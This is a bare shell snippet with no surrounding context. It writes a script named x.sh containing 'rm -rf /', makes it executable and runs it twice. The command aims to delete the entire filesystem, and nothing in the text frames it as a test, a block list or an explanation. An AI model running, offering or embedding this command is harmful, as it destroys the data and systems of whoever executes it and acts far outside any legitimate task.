cat > x.sh <<'E'
rm -rf /
E
chmod +x x.sh && ./x.sh; bash x.sh